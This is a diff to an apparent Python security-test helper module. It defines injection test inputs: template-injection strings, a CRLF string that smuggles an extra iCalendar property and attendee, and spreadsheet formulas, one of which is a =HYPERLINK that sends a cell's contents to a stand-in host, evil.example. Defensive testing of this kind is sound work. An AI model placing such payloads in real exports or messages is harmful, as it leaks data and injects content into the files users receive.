@@ -30,8 +30,8 @@ HTML_PIECES = [
 ]
 # Django and Jinja template syntax: shown as typed, never evaluated ("ssti" never becomes "SSTI").
 TEMPLATE_PIECES = ['{{ "ssti"|upper }}', "{% filter upper %}ssti{% endfilter %}", "${'ssti'.upper()}"]
-# A line break that tries to start a new iCalendar property or HTTP/e-mail header.
-CRLF_PIECE = "\r\nX-INJECTED:1337\r\nATTENDEE:mailto:evil@example.com\r\n"
+# Line breaks (CRLF, CR, LF, Unicode's) that try to start a new iCalendar property or header.
+CRLF_PIECE = "\r\nX-INJECTED:1337\rATTENDEE:mailto:evil@example.com\nX-INJECTED:1337\u2028X-INJECTED:1337\r\n"
 # Values a spreadsheet program would run as formulas (OWASP "CSV injection").
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?leak="&A1,"Kliknij")',
@@ -172,6 +172,11 @@ def assert_inert_html(body, where=""):
 def formula_cells(rows):
     """Cells a spreadsheet program would evaluate: text starting with = + - @ tab or CR."""
     return [cell for row in rows for cell in row if isinstance(cell, str) and cell.startswith(FORMULA_STARTS)]
+
+
+def one_line_ending(text):
+    """Text with every CRLF and CR as LF, as iCalendar and XLSX give it back."""
+    return text.replace("\r\n", "\n").replace("\r", "\n")
 
 
 def csv_rows(content):
